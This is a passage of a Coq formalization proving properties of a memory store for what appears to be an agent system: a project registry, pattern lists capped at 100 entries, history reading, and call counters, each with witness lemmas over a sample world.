Defined.

End ParserFacts.

(* ================================================================== *)
(** * The memory store *)
(* ================================================================== *)

Module MemFacts.
Import PyStr Py OS Mem.
Import Notions PyStrFacts.

Lemma slice_last_length (A : Type) (n : nat) (l : list A) : length (slice_last n l) <= n.
Proof. unfold slice_last. rewrite length_skipn. lia. Qed.

(** Cutting to the last [n] before appending changes nothing once the
    result is cut again. *)
Lemma slice_last_app (A : Type) (n : nat) (l l' : list A) :
  slice_last n (slice_last n l ++ l') = slice_last n (l ++ l').
Proof.
  unfold slice_last. rewrite !length_app, length_skipn.
  destruct (Nat.le_gt_cases (length l) n) as [Hle | Hgt].
  - replace (length l - n) with 0 by lia. simpl. now rewrite Nat.sub_0_r.
  - replace (length l - (length l - n) + length l' - n) with (length l') by lia.
    replace (length l + length l' - n) with (length l' + (length l - n)) by lia.
    rewrite <- skipn_skipn. f_equal.
    rewrite skipn_app. replace (length l - n - length l) with 0 by lia. reflexivity.
Qed.

(** ** The project registry *)

Lemma str_eqb_refl (a : str) : str_eqb a a = true.
Proof. now apply str_eqb_eq. Qed.

Lemma str_eqb_neq (a b : str) : a <> b -> str_eqb a b = false.
Proof.
  intros H. destruct (str_eqb a b) eqn:E; [|reflexivity].
  apply str_eqb_eq in E. contradiction.
Qed.

Lemma dict_get_set_same (A : Type) (k : str) (v : A) (d : list (str * A)) :
  dict_get k (dict_set k v d) = Some v.
Proof.
  induction d as [|[k0 v0] d IH]; simpl.
  - now rewrite str_eqb_refl.
  - destruct (str_eqb k0 k) eqn:E; simpl; rewrite E; [reflexivity | exact IH].
Qed.

Lemma dict_get_set_other (A : Type) (k k' : str) (v : A) (d : list (str * A)) :
  k' <> k -> dict_get k' (dict_set k v d) = dict_get k' d.
Proof.
  intros Hk. induction d as [|[k0 v0] d IH]; simpl.
  - now rewrite (str_eqb_neq (not_eq_sym Hk)).
  - destruct (str_eqb k0 k) eqn:E; simpl.
    + apply str_eqb_eq in E. subst k0.
      now rewrite (str_eqb_neq (not_eq_sym Hk)).
    + destruct (str_eqb k0 k'); [reflexivity | exact IH].
Qed.

Lemma dict_set_keys (A : Type) (k : str) (v : A) (d : list (str * A)) :
  map fst (dict_set k v d) =
  match dict_get k d with
  | Some _ => map fst d
  | None => map fst d ++ [k]
  end.
Proof.
  induction d as [|[k0 v0] d IH]; simpl; [reflexivity|].
  destruct (str_eqb k0 k) eqn:E; simpl; [reflexivity|].
  rewrite IH. now destruct (dict_get k d).
Qed.

Lemma dict_get_keys (A : Type) (k : str) (d : list (str * A)) :
  In k (map fst d) <-> dict_get k d <> None.
Proof.
  induction d as [|[k0 v0] d IH]; simpl; [tauto|].
  destruct (str_eqb k0 k) eqn:E.
  - apply str_eqb_eq in E. split; [discriminate | auto].
  - rewrite <- IH. split; [|auto]. intros [H | H]; [|exact H].
    subst k0. now rewrite str_eqb_refl in E.
Qed.

Lemma dict_set_names (A : Type) (k : str) (v : A) (d : list (str * A)) (n : str) :
  In n (map fst (dict_set k v d)) <-> In n (map fst d) \/ n = k.
Proof.
  rewrite dict_set_keys. destruct (dict_get k d) eqn:E.
  - split; [auto|]. intros [H | ->]; [exact H|].
    apply dict_get_keys. congruence.
  - rewrite in_app_iff. simpl. intuition.
Qed.

(** ** Reading lines *)

Lemma readlines_line (line : str) :
  ~ In LF line -> readlines (line ++ nl) = [line ++ nl].
Proof.
  induction line as [|c line IH]; intros H; [reflexivity|].
  cbn [app readlines]. destruct (N.eqb_spec c LF) as [-> | _].
  - destruct H. now left.
  - rewrite IH; [reflexivity|]. intros Hin. apply H. now right.
Qed.

(** A text that ends a line can be read before what follows it. *)
Lemma readlines_app (old rest : str) :
  has_suffix old nl -> readlines (old ++ rest) = readlines old ++ readlines rest.
Proof.
  intros [a ->]. rewrite <- app_assoc. induction a as [|c a IH]; [reflexivity|].
  cbn [app readlines]. destruct (c =? LF)%N.
  - rewrite IH. reflexivity.
  - rewrite IH.
    destruct (readlines (a ++ nl)) eqn:E; [|reflexivity].
    exfalso. clear -E. destruct a as [|d a]; [discriminate|].
    cbn [app readlines] in E. destruct (d =? LF)%N; [discriminate|].
    destruct (readlines (a ++ nl)); discriminate.
Qed.

Lemma last_lines_snoc (A : Type) (count : Z) (lines : list A) (x : A) :
  (0 < count)%Z ->
  last_lines count (lines ++ [x]) =
  skipn (length lines + 1 - Z.to_nat count) lines ++ [x].
Proof.
  intros Hc. unfold last_lines.
  destruct (Z.ltb_spec 0 count) as [_ | H]; [|lia].
  rewrite length_app. cbn [length]. rewrite skipn_app.
  replace (length lines + 1 - Z.to_nat count - length lines) with 0 by lia.
  reflexivity.
Qed.

Lemma last_lines_length (A : Type) (count : Z) (lines : list A) :
  (0 < count)%Z -> length (last_lines count lines) <= Z.to_nat count.
Proof.
  intros Hc. unfold last_lines.
  destruct (Z.ltb_spec 0 count) as [_ | H]; [|lia].
  rewrite length_skipn. lia.
Qed.

Lemma last_lines_in (A : Type) (count : Z) (lines : list A) (x : A) :
  In x (last_lines count lines) -> In x lines.
Proof.
  unfold last_lines. destruct (0 <? count)%Z; intros H.
  - rewrite <- (firstn_skipn (length lines - Z.to_nat count) lines).
    apply in_or_app. now right.
  - rewrite <- (firstn_skipn (Z.to_nat (- count)) lines).
    apply in_or_app. now right.
Qed.

Section WithSystem.
Context {W : Type} {Sys : System W}.
Context {CState : Codec State} {CProjects : Codec (list (str * Project))}
        {CPatterns : Codec Patterns} {CEntry : Codec HistoryEntry}.

Lemma record_success_effect (m : Memory) (d : str) (a : list str) (w : W) :
  let m' := fst (record_success m d a w) in
  (exists entry,
      key entry = (d, a) /\ error entry = None
      /\ successful_patterns (patterns m') =
         slice_last 100 (successful_patterns (patterns m) ++ [entry]))
  /\ failed_patterns (patterns m') = failed_patterns (patterns m)
  /\ total_goals_completed (state m') = (total_goals_completed (state m) + 1)%Z
  /\ total_goals_failed (state m') = total_goals_failed (state m).
Proof.
  unfold record_success. destruct (time_time w) as [now w1]. cbn.
  split; [|now repeat split].
  eexists. split; [|split]; [| |reflexivity]; reflexivity.
Qed.

Lemma record_failure_effect (m : Memory) (d : str) (a : list str) (e : str) (w : W) :
  let m' := fst (record_failure m d a e w) in
  (exists entry,
      key entry = (d, a) /\ error entry = Some (slice_to 500 e)
      /\ failed_patterns (patterns m') =
         slice_last 100 (failed_patterns (patterns m) ++ [entry]))
  /\ successful_patterns (patterns m') = successful_patterns (patterns m)
  /\ total_goals_failed (state m') = (total_goals_failed (state m) + 1)%Z
  /\ total_goals_completed (state m') = total_goals_completed (state m).
Proof.
  unfold record_failure. destruct (time_time w) as [now w1]. cbn.
  split; [|now repeat split].
  eexists. split; [|split]; [| |reflexivity]; reflexivity.
Qed.

Lemma capped_cons (entries : list Pattern) (l : list Pattern) (entry : Pattern) :
  capped l (entry :: entries) = slice_last 100 (l ++ entry :: entries).
Proof.
  revert l entry; induction entries as [|e' es IH]; intros l entry; [reflexivity|].
  change (capped l (entry :: e' :: es))
    with (capped (slice_last 100 (l ++ [entry])) (e' :: es)).
  rewrite IH, slice_last_app, <- app_assoc. reflexivity.
Qed.

(** Consecutive calls append one entry per call, in the order of the calls,
    cutting to the last 100 each time. *)
Lemma record_successes_effect (calls : list (str * list str)) (m : Memory) (w : W) :
  exists entries,
    map key entries = calls
    /\ successful_patterns (patterns (fst (record_successes m calls w))) =
       capped (successful_patterns (patterns m)) entries
    /\ total_goals_completed (state (fst (record_successes m calls w))) =
       (total_goals_completed (state m) + Z.of_nat (length calls))%Z.
Proof.
  revert m w; induction calls as [|[d a] rest IH]; intros m w.
  - exists []. split; [reflexivity|]. split; [reflexivity|]. cbn. lia.
  - cbn [record_successes].
    pose proof (record_success_effect m d a w) as H. cbv zeta in H.
    destruct (record_success m d a w) as [m1 w1]. cbn [fst] in H.
    destruct H as ((entry & Hk & _ & Hs) & _ & Hc & _).
    destruct (IH m1 w1) as (entries & Hks & Hss & Hcs).
    exists (entry :: entries). split; [cbn; now rewrite Hk, Hks|]. split.
    + rewrite Hss, Hs. reflexivity.
    + rewrite Hcs, Hc. cbn [length]. lia.
Qed.


Lemma decode_lines_app (a b : list str) :
  decode_lines (a ++ b) = decode_lines a ++ decode_lines b.
Proof.
  induction a as [|x a IH]; [reflexivity|]. cbn [app decode_lines].
  destruct (load (strip x)); [cbn [app]; now rewrite IH | exact IH].
Qed.

Lemma decode_lines_length (lines : list str) :
  length (decode_lines lines) <= length lines.
Proof.
  induction lines as [|x lines IH]; [apply Nat.le_refl|]. cbn [decode_lines length].
  destruct (load (strip x)); cbn [length]; lia.
Qed.

Lemma decode_lines_in (lines : list str) (e : HistoryEntry) :
  In e (decode_lines lines) ->
  exists line, In line lines /\ load (strip line) = Some e.
Proof.
  induction lines as [|x lines IH]; [intros []|]. cbn [decode_lines].
  destruct (load (strip x)) as [e0|] eqn:E.
  - intros [<- | H].
    + exists x. split; [now left | exact E].
    + destruct (IH H) as [line [Hin Hl]]. exists line. split; [now right | exact Hl].
  - intros H. destruct (IH H) as [line [Hin Hl]]. exists line.
    split; [now right | exact Hl].
Qed.

(** What one call does to the books of the store. *)
Lemma call_books (m : Memory) (op : Op) (w : W) :
  books m [op] (fst (call m op w)).
Proof.
  unfold books, number_of, last_registered, registered.
  destruct op as [t d s | n p d l | n kwargs | d a | d a e]; cbn [call].
  - unfold record_action. destruct (time_time w) as [now w1]. cbn.
    repeat split; try tauto; try lia.
  - unfold register_project. destruct (time_time w) as [t1 w1].
    destruct (time_time w1) as [t2 w2]. cbn.
    repeat split; try tauto; try lia.
    + intros H. apply dict_set_names in H. intuition.
    + intros H. apply dict_set_names. intuition.
  - unfold update_project. destruct (dict_get n (projects m)) as [record|] eqn:E.
    + destruct (time_time w) as [now w1]. cbn.
      repeat split; try tauto; try lia.
      * intros H. apply dict_set_names in H. destruct H as [H | ->]; [now left|].
        left. apply dict_get_keys. congruence.
      * intros [H | []]. apply dict_set_names. now left.
    + cbn. repeat split; try tauto; try lia.
  - unfold record_success. destruct (time_time w) as [now w1]. cbn.
    repeat split; try tauto; try lia.
    intros _. apply slice_last_length.
  - unfold record_failure. destruct (time_time w) as [now w1]. cbn.
    repeat split; try tauto; try lia.
    intros _. apply slice_last_length.
Qed.

Lemma books_cons (m m1 m2 : Memory) (op : Op) (ops : list Op) :
  books m [op] m1 -> books m1 ops m2 -> books m (op :: ops) m2.
Proof.
  unfold books, number_of, last_registered, registered.
  intros (A1 & A2 & A3 & A4 & A5 & A6 & A7 & A8 & A9 & A10)
         (B1 & B2 & B3 & B4 & B5 & B6 & B7 & B8 & B9 & B10).
  cbn [fold_left flat_map filter] in *.
  split; [congruence|]. split; [congruence|]. split; [congruence|].
  split; [rewrite B4, A4; destruct (is_action op); cbn [length]; lia|].
  split; [rewrite B5, A5; destruct (is_success op); cbn [length]; lia|].
  split; [rewrite B6, A6; destruct (is_failure op); cbn [length]; lia|].
  split; [rewrite B7, A7; reflexivity|].
  split.
  { intros n. rewrite B8, A8, !in_app_iff. cbn [In]. tauto. }
  split; auto.
Qed.

Lemma calls_books (ops : list Op) (m : Memory) (w : W) :
  books m ops (fst (calls m ops w)).
Proof.
  revert m w; induction ops as [|op ops IH]; intros m w.
  - unfold books, number_of, last_registered, registered. cbn.
    repeat split; try tauto; try lia.
  - cbn [calls]. pose proof (call_books m op w) as H1.
    destruct (call m op w) as [m1 w1]. cbn [fst] in H1.
    exact (books_cons H1 (IH m1 w1)).
Qed.

End WithSystem.

(** C8.  Each [record_success] (and each [record_failure]) call appends one
    entry to its list, keeps the most recent 100 entries of the result, leaves
    the other list alone and adds one to its counter; so neither list is longer
    than 100 after a call, and the oldest entries are the ones dropped.  After
    101 consecutive [record_success] calls on an empty list the list holds
    exactly 100 entries: those of the 2nd to the 101st call, in order. *)
Theorem pattern_lists_are_capped (W : Type) (Sys : System W)
    (CState : Codec State) (CProjects : Codec (list (str * Project)))
    (CPatterns : Codec Patterns) (CEntry : Codec HistoryEntry)
    (m : Memory) (d : str) (a : list str) (e : str) (w : W) :
  let ok := fst (record_success m d a w) in
  let ko := fst (record_failure m d a e w) in
  ((exists entry,
       goal entry = d /\ approach entry = a
       /\ successful_patterns (patterns ok) =
          slice_last 100 (successful_patterns (patterns m) ++ [entry]))
   /\ length (successful_patterns (patterns ok)) <= 100
   /\ failed_patterns (patterns ok) = failed_patterns (patterns m)
   /\ total_goals_completed (state ok) = (total_goals_completed (state m) + 1)%Z)
  /\ ((exists entry,
         goal entry = d /\ approach entry = a
         /\ failed_patterns (patterns ko) =
            slice_last 100 (failed_patterns (patterns m) ++ [entry]))
      /\ length (failed_patterns (patterns ko)) <= 100
      /\ successful_patterns (patterns ko) = successful_patterns (patterns m)
      /\ total_goals_failed (state ko) = (total_goals_failed (state m) + 1)%Z)
  /\ (forall calls : list (str * list str),
        length calls = 101 ->
        successful_patterns (patterns m) = [] ->
        let after := fst (record_successes m calls w) in
        length (successful_patterns (patterns after)) = 100
        /\ map (fun p => (goal p, approach p)) (successful_patterns (patterns after))
           = skipn 1 calls
        /\ total_goals_completed (state after) = (total_goals_completed (state m) + 101)%Z).
Proof.
  intros ok ko. split; [|split].
  - destruct (record_success_effect m d a w) as ((entry & Hk & _ & Hs) & Hf & Hc & _).
    fold ok in Hs, Hf, Hc. injection Hk as Hg Ha.
    split; [now exists entry|]. split; [|now split].
    rewrite Hs. apply slice_last_length.
  - destruct (record_failure_effect m d a e w) as ((entry & Hk & _ & Hs) & Hf & Hc & _).
    fold ko in Hs, Hf, Hc. injection Hk as Hg Ha.
    split; [now exists entry|]. split; [|now split].
    rewrite Hs. apply slice_last_length.
  - intros calls Hlen Hempty after. subst after.
    destruct (record_successes_effect calls m w) as (entries & Hk & Hs & Hc).
    rewrite Hs, Hc, Hempty, Hlen.
    assert (Hn : length entries = 101) by (now rewrite <- Hlen, <- Hk, length_map).
    destruct entries as [|entry entries]; [discriminate|].
    rewrite capped_cons. cbn [app]. unfold slice_last. rewrite Hn.
    change (101 - 100) with 1.
    split; [rewrite length_skipn; lia|]. split; [|reflexivity].
    change (fun p : Pattern => (goal p, approach p)) with key.
    now rewrite <- skipn_map, Hk.
Qed.

(** 101 calls in the sample world, numbered from 1. *)
Lemma pattern_lists_are_capped_witness :
  let calls := map (fun n => (str_of_nat n, [u "main.py"])) (seq 1 101) in
  let m := {| memory_dir := u "/ai/memory"; state_file := u "/ai/memory/state.json";
              history_file := u "/ai/memory/history.jsonl";
              projects_file := u "/ai/memory/projects.json";
              patterns_file := u "/ai/memory/patterns.json";
              state := default_state; projects := []; patterns := default_patterns |} in
  map goal (successful_patterns (patterns (fst
    (record_successes (Sys := Sample.printing (fun _ => []))
       (CState := Sample.no_codec State) (CPatterns := Sample.no_codec Patterns)
       m calls Sample.empty_world))))
  = map str_of_nat (seq 2 100).
Proof.
  intros calls m.
  pose proof (proj2 (proj2 (@pattern_lists_are_capped Sample.world
    (Sample.printing (fun _ => [])) (Sample.no_codec State)
    (Sample.no_codec (list (str * Project))) (Sample.no_codec Patterns)
    (Sample.no_codec HistoryEntry) m [] [] [] Sample.empty_world)) calls) as H.
  cbv zeta in H.
  destruct (H eq_refl eq_refl) as (_ & Hmap & _).
  apply (f_equal (map fst)) in Hmap. rewrite map_map in Hmap. cbn [fst] in Hmap.
  exact Hmap.
Defined.



(** X11.  After [register_project] the registry answers for the name with
    a record that holds the given path, description and language, no commit
    and no test result, and the two clock readings of the call; the records
    under other names are the ones from before; the name is the active
    project; the names keep their order, a new name coming last; the
    projects file is written, then the state file. *)
Theorem register_project_round_trip (W : Type) (Sys : System W)
    (CState : Codec State) (CProjects : Codec (list (str * Project)))
    (m : Memory) (name path description language : str) (w : W) :
  let m' := fst (register_project m name path description language w) in
  let w2 := snd (time_time (snd (time_time w))) in
  get_project m' name =
    Some {| Mem.path := path; Mem.description := description;
            Mem.language := language;
            created := fst (time_time w);
            last_modified := fst (time_time (snd (time_time w)));
            commit_count := 0; test_pass := None |}
  /\ (forall other, other <> name -> get_project m' other = get_project m other)
  /\ get_active_project m' = Some name
  /\ map fst (projects m') =
     match get_project m name with
     | Some _ => map fst (projects m)
     | None => map fst (projects m) ++ [name]
     end
  /\ snd (register_project m name path description language w) =
     snd (write_text (state_file m) (dump (state m'))
            (snd (write_text (projects_file m) (dump (projects m')) w2))).
Proof.
  unfold register_project, get_project, get_active_project.
  destruct (time_time w) as [t1 w1]. cbn [fst snd].
  destruct (time_time w1) as [t2 w2].
  cbn. split; [apply dict_get_set_same|].
  split; [intros other H; now apply dict_get_set_other|].
  split; [reflexivity|]. split; [apply dict_set_keys | reflexivity].
Qed.

(** A first project in a fresh store. *)
Lemma register_project_round_trip_witness :
  let m' := fst (register_project (Sys := Sample.printing (fun _ => []))
                   (CState := Sample.no_codec State)
                   (CProjects := Sample.no_codec (list (str * Project)))
                   Sample.fresh_memory (u "demo") (u "/projects/demo") (u "a demo")
                   (u "python") Sample.empty_world) in
  get_project m' (u "other") = None.
Proof.
  intros m'.
  apply (proj1 (proj2 (@register_project_round_trip Sample.world
    (Sample.printing (fun _ => [])) (Sample.no_codec State)
    (Sample.no_codec (list (str * Project))) Sample.fresh_memory (u "demo")
    (u "/projects/demo") (u "a demo") (u "python") Sample.empty_world)) (u "other")).
  discriminate.
Defined.

(** X12.  [update_project] on a name that is not registered does nothing:
    no clock reading, no write.  On a registered name the record becomes the
    old one with the given fields assigned and the clock's reading as
    last_modified (a last_modified among the fields is overwritten), the
    projects file is written; the records under other names, the names and
    their order, the state (the active project with it) and the patterns are
    the ones from before.  With the single field test_pass, the other fields
    but last_modified are kept. *)
Theorem update_project_spec (W : Type) (Sys : System W)
    (CProjects : Codec (list (str * Project)))
    (m : Memory) (name : str) (kwargs : list Field) (w : W) :
  let m' := fst (update_project m name kwargs w) in
  (get_project m name = None -> update_project m name kwargs w = (m, w))
  /\ (forall record, get_project m name = Some record ->
      exists record',
        get_project m' name = Some record'
        /\ record' = assign (fold_left assign kwargs record)
                            (F_last_modified (fst (time_time w)))
        /\ last_modified record' = fst (time_time w)
        /\ (forall v, kwargs = [F_test_pass v] ->
            test_pass record' = v /\ Mem.path record' = Mem.path record
            /\ Mem.description record' = Mem.description record
            /\ Mem.language record' = Mem.language record
            /\ created record' = created record
            /\ commit_count record' = commit_count record)
        /\ snd (update_project m name kwargs w) =
           snd (write_text (projects_file m) (dump (projects m'))
                  (snd (time_time w))))
  /\ (forall other, other <> name -> get_project m' other = get_project m other)
  /\ map fst (projects m') = map fst (projects m)
  /\ state m' = state m
  /\ patterns m' = patterns m.
Proof.
  unfold update_project, get_project.
  destruct (dict_get name (projects m)) as [record|] eqn:E.
  - destruct (time_time w) as [now w1]. cbn [fst snd].
    split; [discriminate|]. split.
    { intros r [= <-]. eexists. split; [apply dict_get_set_same|].
      split; [reflexivity|]. split; [reflexivity|]. split; [|reflexivity].
      intros v ->. cbn. repeat split. }
    split; [intros other H; now apply dict_get_set_other|].
    split; [|split; reflexivity].
    cbn [projects with_projects]. rewrite dict_set_keys, E. reflexivity.
  - cbn [fst]. split; [reflexivity|]. split; [discriminate|].
    repeat split.
Qed.

(** Nothing is registered in a fresh store. *)
Lemma update_project_spec_witness :
  update_project (Sys := Sample.printing (fun _ => []))
    (CProjects := Sample.no_codec (list (str * Project)))
    Sample.fresh_memory (u "demo") [F_test_pass (Some true)] Sample.empty_world
  = (Sample.fresh_memory, Sample.empty_world).
Proof.
  apply (proj1 (@update_project_spec Sample.world (Sample.printing (fun _ => []))
    (Sample.no_codec (list (str * Project))) Sample.fresh_memory (u "demo")
    [F_test_pass (Some true)] Sample.empty_world)).
  reflexivity.
Defined.

(** X13.  Whatever calls are made on the store, in whatever order: its
    five paths, boot_count and last_boot are the ones from before; each of
    the three counters has grown by the number of the calls that count for it
    ([record_action], [record_success], [record_failure]); the active project
    is the last name registered, or the one from before; the registered names
    are the ones from before and the ones the calls registered, none is lost;
    a pattern list of at most 100 entries still has at most 100. *)
Theorem calls_keep_the_books (W : Type) (Sys : System W)
    (CState : Codec State) (CProjects : Codec (list (str * Project)))
    (CPatterns : Codec Patterns) (CEntry : Codec HistoryEntry)
    (ops : list Op) (m : Memory) (w : W) :
  let m' := fst (calls m ops w) in
  (memory_dir m', state_file m', history_file m', projects_file m', patterns_file m')
  = (memory_dir m, state_file m, history_file m, projects_file m, patterns_file m)
  /\ boot_count (state m') = boot_count (state m)
  /\ last_boot (state m') = last_boot (state m)
  /\ total_commands_executed (state m') =
     (total_commands_executed (state m) + number_of is_action ops)%Z
  /\ total_goals_completed (state m') =
     (total_goals_completed (state m) + number_of is_success ops)%Z
  /\ total_goals_failed (state m') =
     (total_goals_failed (state m) + number_of is_failure ops)%Z
  /\ last_active_project (state m') =
     last_registered (last_active_project (state m)) ops
  /\ (forall n, In n (map fst (projects m')) <->
                In n (map fst (projects m)) \/ In n (registered ops))
  /\ (length (successful_patterns (patterns m)) <= 100 ->
      length (successful_patterns (patterns m')) <= 100)
  /\ (length (failed_patterns (patterns m)) <= 100 ->
      length (failed_patterns (patterns m')) <= 100).
Proof. exact (calls_books ops m w). Qed.

(** A project is registered, a command and a success recorded, the project
    updated. *)
Lemma calls_keep_the_books_witness :
  let ops := [RegisterProject (u "demo") (u "/projects/demo") [] (u "python");
              RecordAction (u "tool:run") (u "ls") true;
              RecordSuccess (u "a demo") [u "main.py"];
              UpdateProject (u "demo") [F_test_pass (Some true)]] in
  length (successful_patterns (patterns (fst
    (calls (Sys := Sample.printing (fun _ => []))
       (CState := Sample.no_codec State)
       (CProjects := Sample.no_codec (list (str * Project)))
       (CPatterns := Sample.no_codec Patterns) (CEntry := Sample.type_codec)
       Sample.fresh_memory ops Sample.empty_world)))) <= 100.
Proof.
  intros ops.
  apply (proj1 (proj2 (proj2 (proj2 (proj2 (proj2 (proj2 (proj2 (proj2
    (@calls_keep_the_books Sample.world (Sample.printing (fun _ => []))
       (Sample.no_codec State) (Sample.no_codec (list (str * Project)))
       (Sample.no_codec Patterns) Sample.type_codec ops Sample.fresh_memory
       Sample.empty_world)))))))))).
  apply Nat.leb_le. vm_compute. reflexivity.
Defined.



(** X15.  An action recorded with [record_action] is the last entry
    [get_recent_history] returns for a positive count, and counts as one
    command more, when the history file reads back as what it held, ending a
    line or empty, followed by the line written, and the codec writes the
    entry without a newline and decodes its trimmed line. *)
Theorem recorded_action_is_last (W : Type) (Sys : System W)
    (CState : Codec State) (CEntry : Codec HistoryEntry)
    (m : Memory) (action_type details : str) (success : bool) (w : W)
    (old : str) (count : Z) :
  let entry := {| h_timestamp := fst (time_time w); h_type := action_type;
                  h_details := details; h_success := success |} in
  let m' := fst (record_action m action_type details success w) in
  let w' := snd (record_action m action_type details success w) in
  exists_ (history_file m) w' = true ->
  read_text (history_file m) w' = Content (old ++ dump entry ++ nl) ->
  old = [] \/ has_suffix old nl ->
  ~ In LF (dump entry) ->
  load (strip (dump entry ++ nl)) = Some entry ->
  (0 < count)%Z ->
  (exists earlier, get_recent_history m' count w' = earlier ++ [entry])
  /\ total_commands_executed (state m') = (total_commands_executed (state m) + 1)%Z.
Proof.
  intros entry m' w' He Hr Hold Hline Hload Hc.
  assert (Hfile : history_file m' = history_file m).
  { subst m'. unfold record_action. now destruct (time_time w). }
  split.
  - unfold get_recent_history. rewrite Hfile, He, Hr.
    assert (Hlines : readlines (old ++ dump entry ++ nl) =
                     readlines old ++ [dump entry ++ nl]).
    { destruct Hold as [-> | Hold].
      - cbn [app readlines]. now apply readlines_line.
      - rewrite (readlines_app _ Hold). f_equal. now apply readlines_line. }
    rewrite Hlines, (last_lines_snoc _ _ Hc), decode_lines_app.
    cbn [decode_lines]. rewrite Hload. eexists. reflexivity.
  - subst m'. unfold record_action. now destruct (time_time w).
Qed.

(** The first action of a fresh store, in a world that keeps its files. *)
Lemma recorded_action_is_last_witness :
  let sys := Sample.printing (fun _ => []) in
  let m' := fst (record_action (Sys := sys) (CState := Sample.no_codec State)
                   (CEntry := Sample.type_codec) Sample.fresh_memory (u "boot") []
                   true Sample.empty_world) in
  let w' := snd (record_action (Sys := sys) (CState := Sample.no_codec State)
                   (CEntry := Sample.type_codec) Sample.fresh_memory (u "boot") []
                   true Sample.empty_world) in
  (exists earlier,
      get_recent_history (Sys := sys) (CEntry := Sample.type_codec) m' 1%Z w' =
      earlier ++ [{| h_timestamp := 0%Z; h_type := u "boot"; h_details := [];
                     h_success := true |}])
  /\ total_commands_executed (state m') = 1%Z.
Proof.
  intros sys m' w'.
  refine (@recorded_action_is_last Sample.world sys (Sample.no_codec State)
    Sample.type_codec Sample.fresh_memory (u "boot") [] true Sample.empty_world []
    1%Z _ _ _ _ _ _).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - left. reflexivity.
  - vm_compute. intros H.
    repeat (destruct H as [H | H]; [discriminate H|]). exact H.
  - vm_compute. reflexivity.
  - reflexivity.
Defined.

End MemFacts.
